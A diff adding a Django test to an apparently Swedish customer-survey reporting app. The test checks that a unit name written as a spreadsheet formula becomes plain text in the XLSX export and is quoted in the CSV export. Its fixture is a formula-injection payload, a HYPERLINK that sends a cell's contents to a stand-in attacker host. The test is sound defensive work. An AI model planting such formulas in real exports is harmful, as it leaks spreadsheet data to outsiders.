@@ -147,3 +147,20 @@ def test_the_page_speaks_english_after_the_language_switch(
     assert "What customers wrote" in html and "Trend over time" in html
     swedish = _client(personas, "manager_a").get(UNIT_A + "?survey=nki").content.decode()
     assert "Resultat för Hemtjänst Norr" in swedish and "Utveckling över tid" in swedish
+
+
+@pytest.mark.django_db
+def test_a_unit_name_written_as_a_formula_is_text_in_the_xlsx_and_quoted_in_the_csv(
+    personas: dict[str, Any], results: dict[str, int]
+) -> None:
+    from kundpuls.web.org.models import Unit
+
+    formula = '=HYPERLINK("http://angripare.example/?"&B3,"Personal")'
+    Unit.objects.filter(code="VOF-HT-S").update(name=formula)
+    client = _client(personas, "admin")
+    book = load_workbook(io.BytesIO(client.get(UNIT_A + "tabeller.xlsx?survey=nki").content))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert formula in [c.value for c in cells]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    csv_text = client.get(UNIT_A + "tabeller.csv?survey=nki").content.decode()
+    assert "'=HYPERLINK(" in csv_text and ',"=HYPERLINK' not in csv_text and "\n=HYPERLINK" not in csv_text
